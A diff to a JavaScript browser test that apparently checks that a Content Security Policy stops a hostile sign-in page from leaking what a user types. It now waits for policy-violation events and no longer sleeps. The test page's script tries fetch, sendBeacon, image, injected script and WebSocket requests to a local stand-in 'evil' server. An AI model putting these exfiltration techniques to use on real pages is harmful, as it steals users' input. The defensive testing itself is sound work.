@@ -11,7 +11,7 @@ import { promisify } from 'node:util';
 import { launch, openPage } from './browser.mjs';
 import { publish, request, siteHost } from './http.mjs';
 import { FRAGMENT, fragment, seal, sealBare, VECTORS } from './sealed.mjs';
-import { operatorKey, ROOT, sleep, startServer, tempDir } from './server.mjs';
+import { operatorKey, ROOT, startServer, tempDir, until } from './server.mjs';
 
 const WORDS = 'the plaintext that must not be on disk';
 const PAGE = `<!doctype html><title>Sealed</title><p>${WORDS}</p><script>document.body.dataset.ran = 'yes'</script>`;
@@ -133,7 +133,8 @@ describe('by hand', () => {
     outside.unref();
     const evil = `http://127.0.0.1:${outside.address().port}`;
     const hostile = `<!doctype html><title>Sign in</title><p>${WORDS}</p><form action="${evil}/form"><input name="word"><button>Send</button></form>
-      <script>document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
+      <script>const refused = []; addEventListener('securitypolicyviolation', (event) => { refused.push(event.effectiveDirective); document.body.dataset.refused = refused.sort().join(' '); });
+      document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
         for (const act of [() => fetch('${evil}/?' + word), () => navigator.sendBeacon('${evil}/?' + word), () => (new Image().src = '${evil}/?' + word),
           () => document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/?' + word })), () => new WebSocket('${evil.replace('http', 'ws')}')]) {
           try { Promise.resolve(act()).catch(() => {}); } catch {} } document.body.dataset.tried = 'yes'; });</script>`;
@@ -144,7 +145,9 @@ describe('by hand', () => {
     // Not waited for: the browser announces a navigation that the policy then ends.
     await page.getByRole('button', { name: 'Send' }).click({ noWaitAfter: true });
     await page.waitForFunction(() => document.body.dataset.tried === 'yes');
-    await sleep(500);
+    // Each of them was stopped by the policy, which the browser tells once it has decided.
+    const stopped = 'connect-src connect-src connect-src form-action img-src script-src-elem';
+    await until('every request to be refused', async () => (await page.evaluate(() => document.body.dataset.refused)) === stopped);
     assert.equal(said, '', 'nothing left');
     assert.ok(page.url().endsWith(FRAGMENT), 'it is still there');
     assert.ok(await page.locator('[popover]').count(), 'the notice is over it');
